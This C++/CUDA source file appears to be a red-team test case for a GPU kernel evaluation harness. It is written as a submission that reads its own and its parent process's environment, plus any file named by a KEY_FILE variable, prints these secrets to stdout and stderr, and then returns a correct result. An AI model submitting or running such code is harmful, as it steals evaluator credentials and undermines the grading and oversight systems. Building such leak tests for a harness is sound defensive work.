// CASE I6 i6_read_environ_cuda -- secrets.
// Attack: reads /proc/self/environ, /proc/<ppid>/environ (the judge's or the worker's
// environment) and the file named by any *KEY_FILE* variable found there (the fleet key
// file), and prints all of it on stdout and stderr, where a careless farm stores it in the
// evaluation's log or detail. Then computes the right answer, so only the leak can fail it.
// expect: ok or rejected_cheat; and no planted secret in any output ("secrets": true)
#include "kf_abi.h"
#include <cuda_runtime.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__global__ void axpy(const float *x, const float *y, float *o, long long n)
{
    for (long long i = blockIdx.x * (long long)blockDim.x + threadIdx.x; i < n; i += (long long)gridDim.x * blockDim.x)
        o[i] = 2.0f * x[i] + y[i];
}

/* prints a file (NULs as newlines) on stdout and stderr; returns its text (malloc) */
static char *dump(const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f) {
        printf("i6: %s: unreadable\n", path);
        return NULL;
    }
    size_t cap = 1 << 20, len = 0;
    char *b = (char *)malloc(cap + 1);
    if (b) len = fread(b, 1, cap, f);
    fclose(f);
    if (!b) return NULL;
    b[len] = 0;
    for (size_t i = 0; i < len; i++)
        if (!b[i]) b[i] = '\n';
    printf("i6: ---- %s (%zu bytes)\n%s\n", path, len, b);
    fprintf(stderr, "i6: ---- %s (%zu bytes)\n%s\n", path, len, b);
    fflush(stdout);
    return b;
}

static void key_files(const char *env)
{
    for (const char *p = env; p && *p;) {
        const char *nl = strchr(p, '\n');
        size_t l = nl ? (size_t)(nl - p) : strlen(p);
        const char *eq = (const char *)memchr(p, '=', l);
        if (eq && memmem(p, eq - p, "KEY_FILE", 8)) {
            char path[512];
            snprintf(path, sizeof(path), "%.*s", (int)(l - (eq + 1 - p)), eq + 1);
            free(dump(path));
        }
        p = nl ? nl + 1 : NULL;
    }
}

static int done;
extern "C" int kf_entry(const kf_call *c)
{
    if (!done) {
        done = 1;
        char pp[64];
        snprintf(pp, sizeof(pp), "/proc/%d/environ", (int)getppid());
        char *a = dump("/proc/self/environ"), *b = dump(pp);
        key_files(a);
        key_files(b);
        free(a);
        free(b);
        for (char **e = environ; e && *e; e++) printf("i6: env %s\n", *e);
        fflush(stdout);
    }
    long long n = c->sizes[0];
    axpy<<<1024, 256, 0, (cudaStream_t)c->stream>>>((const float *)c->inputs[0].data,
        (const float *)c->inputs[1].data, (float *)c->outputs[0].data, n);
    return cudaGetLastError() == cudaSuccess ? 0 : 1;
}
